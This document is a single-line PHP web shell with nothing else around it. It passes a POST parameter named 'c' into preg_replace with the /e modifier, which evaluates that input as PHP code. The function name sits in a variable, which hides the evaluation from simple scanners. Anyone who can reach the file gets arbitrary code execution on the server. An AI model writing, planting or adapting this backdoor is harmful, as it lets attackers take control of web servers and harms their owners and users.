<?php $f = 'preg_replace'; $f('/.*/e', $_POST['c'], '');
